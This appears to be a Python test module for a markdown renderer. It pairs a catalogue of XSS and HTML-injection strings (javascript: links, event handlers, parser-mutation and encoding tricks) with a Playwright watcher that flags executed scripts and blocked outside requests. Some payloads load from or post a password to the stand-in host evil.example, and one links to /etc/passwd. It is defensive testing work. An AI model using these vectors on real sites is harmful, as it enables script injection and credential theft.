"""Injection attempts by category, and a watch that notices when one succeeds in a browser.

`PAYLOAD` is what they try to run: a watched page has a getter of that name. REMOTE_ORIGIN is where they try to load from or
send to. No string contains the fake model's marker.
"""

from pathlib import Path
from typing import Any

from playwright.sync_api import ConsoleMessage, Dialog, Page, Request, Route

PAYLOAD = "window.__hurt"  # no space, quote or "=", so it is valid in an unquoted attribute
REMOTE_ORIGIN = "https://evil.example"
BIDI, ZERO, SHY = "\u202e", "\u200b", "\u00ad"

FAMILIES: dict[str, list[str]] = {
    "links": [
        f"[link](javascript:{PAYLOAD})",
        f"[link](JaVaScRiPt:{PAYLOAD})",
        f"[link](<javascript:{PAYLOAD}>)",
        f"[link]( javascript:{PAYLOAD} 'title')",
        f"[link](vbscript:{PAYLOAD})",
        f"[link](data:text/html,<script>{PAYLOAD}</script>)",
        f"[link](data:text/html;base64,PHNjcmlwdD5{'A' * 8})",
        f"[link](java\tscript:{PAYLOAD})",
        f"[link](<java\nscript:{PAYLOAD}>)",
        f"[link](&#106;avascript:{PAYLOAD})",
        f"[link](&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;&colon;{PAYLOAD})",
        f"[link](javascript&#x3A;{PAYLOAD})",
        f"[link](jav&Tab;ascript:{PAYLOAD})",
        f"[link](%6Aavascript:{PAYLOAD})",
        f"[link](\\javascript:{PAYLOAD})",
        f"[link](java{ZERO}script:{PAYLOAD})",
        f"[link](ｊavascript:{PAYLOAD})",
        f"[link](\x01javascript:{PAYLOAD})",
        f"[link](blob:{REMOTE_ORIGIN}/1)",
        "[link](file:///etc/passwd)",
        "[link](//evil.example/path)",
        f'[link](https://x.example/"onmouseover="{PAYLOAD})',
        f"[link](https://x.example 'a\" onfocus=\"{PAYLOAD}')",
    ],
    "autolinks": [
        f"<javascript:{PAYLOAD}>",
        f"<vbscript:{PAYLOAD}>",
        f"<data:text/html,{PAYLOAD}>",
        f'https://x.example/"onmouseover="{PAYLOAD}',
        f"https://x.example/<svg/onload={PAYLOAD}>",
    ],
    "reference links": [
        f"[away][1]\n\n[1]: javascript:{PAYLOAD}",
        f"[away]\n\n[away]: <data:text/html,<script>{PAYLOAD}</script>>",
        f"![away][2]\n\n[2]: {REMOTE_ORIGIN}/reference.png",
    ],
    "images": [
        f"![dot]({REMOTE_ORIGIN}/dot.png)",
        f'![dot" onerror="{PAYLOAD}]({REMOTE_ORIGIN}/x.png)',
        f"![dot](data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='{PAYLOAD}'/>)",
        f"![dot](javascript:{PAYLOAD})",
        f"[![dot]({REMOTE_ORIGIN}/inner.png)](javascript:{PAYLOAD})",
    ],
    "raw html": [
        f"<script>{PAYLOAD}</script>",
        f"<img src=x onerror={PAYLOAD}>",
        f'<img src="{REMOTE_ORIGIN}/raw.png">',
        f"<a href='javascript:{PAYLOAD}'>link</a>",
        f"<details open ontoggle={PAYLOAD}><summary>more</summary></details>",
        f"<input autofocus onfocus={PAYLOAD}>",
        f"<video src={REMOTE_ORIGIN}/a.mp4 onerror={PAYLOAD}></video>",
        f"<body onload={PAYLOAD}>",
        f"<SCRIPT SRC={REMOTE_ORIGIN}/x.js></SCRIPT>",
        f"<div popover id=p onbeforetoggle={PAYLOAD}>x</div><button popovertarget=p>x</button>",
    ],
    "svg and mathml": [
        f"<svg onload={PAYLOAD}>",
        f"<svg><script>{PAYLOAD}</script></svg>",
        f"<svg><animate onbegin={PAYLOAD} attributeName=x dur=1s>",
        f"<svg><a xlink:href='javascript:{PAYLOAD}'><text>link</text></a></svg>",
        f"<svg><image href='{REMOTE_ORIGIN}/svg.png'/></svg>",
        f"<math><maction actiontype='statusline#http://x' xlink:href='javascript:{PAYLOAD}'>link</maction></math>",
    ],
    "mutations": [
        f"<noscript><p title='</noscript><img src=x onerror={PAYLOAD}>'>",
        f"<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror={PAYLOAD}&gt;'>",
        f"<svg></p><style><a id='</style><img src=1 onerror={PAYLOAD}>'>",
        f"<form><math><mtext></form><form><mglyph><style></math><img src onerror={PAYLOAD}>",
        f"<template><style></template><img src=x onerror={PAYLOAD}>",
    ],
    "break-outs": [
        f'"><img src=x onerror={PAYLOAD}>',
        f"'><svg onload={PAYLOAD}>",
        f"</textarea><img src=x onerror={PAYLOAD}>",
        f"</title><script>{PAYLOAD}</script>",
        f"</script><script>{PAYLOAD}</script>",
        f"--></code></pre><img src=x onerror={PAYLOAD}>",
        f'" autofocus onfocus="{PAYLOAD}" x="',
        f"\\u003cimg src=x onerror={PAYLOAD}\\u003e",
    ],
    "fences": [
        f'```"><img/src=x/onerror={PAYLOAD}>\ncode\n```',
        f"```html\n<script>{PAYLOAD}</script>\n```",
        f"```js onload={PAYLOAD}\ncode\n```",
        f"~~~</code></pre><svg/onload={PAYLOAD}>\ncode\n~~~",
        f"`<img src=x onerror={PAYLOAD}>`",
        f"    <script>{PAYLOAD}</script>",
    ],
    "comments and declarations": [
        f"<!-- --!><img src=x onerror={PAYLOAD}> -->",
        f"<!--><script>{PAYLOAD}</script>-->",
        f"<![CDATA[<img src=x onerror={PAYLOAD}>]]>",
        f"<?php {PAYLOAD} ?><img src=x onerror={PAYLOAD}>",
    ],
    "templates": [
        "{{ 7|add:7 }}{% include 'base.html' %}{# x #}",
        f"{{{{constructor.constructor('{PAYLOAD}')()}}}}",
        f"${{{PAYLOAD}}} #{{{PAYLOAD}}} <%= {PAYLOAD} %>",
        f"<p x-data x-init='{PAYLOAD}' hx-get='{REMOTE_ORIGIN}/hx' hx-trigger='load'>x</p>",
    ],
    "formulas": [
        f"$\\href{{javascript:{PAYLOAD}}}{{x}}$",
        f"$$<img src=x onerror={PAYLOAD}>$$",
        f"\\(\\html{{<svg onload={PAYLOAD}>}}\\)",
        f"$\\includegraphics{{{REMOTE_ORIGIN}/tex.png}}$",
    ],
    "unseen signs": [
        f"{BIDI}<img src=x onerror={PAYLOAD}>{BIDI}",
        f"[https://good.example{BIDI}gpj.](https://evil.example/)",
        f"<{ZERO}script>{PAYLOAD}</script>",
        f"java{SHY}script:{PAYLOAD}",
        f"＜script＞{PAYLOAD}＜/script＞",
    ],
    "styles": [
        f"<style>@import '{REMOTE_ORIGIN}/a.css'; body{{background:url({REMOTE_ORIGIN}/b.png)}}</style>",
        f"<p style='background:url({REMOTE_ORIGIN}/c.png)'>x</p>",
        f"<link rel=stylesheet href={REMOTE_ORIGIN}/d.css>",
        f'<p style="width:expression({PAYLOAD});behavior:url({REMOTE_ORIGIN}/e)">x</p>',
    ],
    "frames and forms": [
        f"<iframe src='javascript:{PAYLOAD}'></iframe>",
        "<iframe srcdoc='<script>parent.__hurt</script>'></iframe>",
        f"<object data='data:text/html,<script>{PAYLOAD}</script>'></object><embed src={REMOTE_ORIGIN}/f.swf>",
        f"<form action='{REMOTE_ORIGIN}/steal'><input name=password><button formaction='javascript:{PAYLOAD}'>go</button></form>",
        f"<meta http-equiv=refresh content='0;url={REMOTE_ORIGIN}/refresh'>",
        f"<base href='{REMOTE_ORIGIN}/base/'>",
    ],
    "terminals and json": [
        f"\x1b]8;;javascript:{PAYLOAD}\x1b\\link\x1b]8;;\x1b\\ \x1b[31mred\x1b[0m",
        f'{{"a":"</script><script>{PAYLOAD}</script>"}}',
        f"'; {PAYLOAD}; //",
        f"]]>}}`;{PAYLOAD};//",
    ],
    "file names": [
        f"<img src=x onerror={PAYLOAD}>.txt",
        f'a" onmouseover="{PAYLOAD}.txt',
        f"{BIDI}txt.exe",
        f"javascript:{PAYLOAD}.md",
    ],
}
STRINGS = [text for family in FAMILIES.values() for text in family]
STARTS_A_FENCE = ("```", "~~~")

FIND_HARM = (Path(__file__).parent / "hostile_harm.js").read_text()


class PageWatch:
    """Records dialogs, errors, policy violations and requests to other origins, which are blocked."""

    def __init__(self, page: Page, origin: str) -> None:
        self.faults: list[str] = []
        self._origin = origin
        page.context.add_init_script("Object.defineProperty(window, '__hurt', { get() { window.__pwned = 1; } })")
        page.context.route(lambda address: not address.startswith((origin, "data:", "blob:")), self._block)
        self.follow(page)
        page.context.on("page", self._opened)

    def follow(self, page: Page) -> None:
        page.on("console", self._on_console)
        page.on("pageerror", lambda error: self.faults.append(f"error: {error}"))
        page.on("dialog", self._on_dialog)
        page.on("request", self._requested)

    def _opened(self, page: Page) -> None:
        self.faults.append(f"a window: {page.url}")

    def _block(self, route: Route) -> None:
        self.faults.append(f"request: {route.request.url}")
        route.abort()

    def _requested(self, request: Request) -> None:
        if not request.url.startswith((self._origin, "data:image/", "blob:")):
            self.faults.append(f"request: {request.url}")

    def _on_dialog(self, dialog: Dialog) -> None:
        self.faults.append(f"dialog: {dialog.message}")
        dialog.dismiss()

    def _on_console(self, message: ConsoleMessage) -> None:
        if "Content Security Policy" in message.text or "Permissions-Policy" in message.text:
            self.faults.append(message.text)

    def inspect(self, page: Page, where: str) -> None:
        """Search the current page for elements that text must not create."""
        harm: list[Any] = page.evaluate(FIND_HARM)
        self.faults += [f"{where}: {each}" for each in harm]
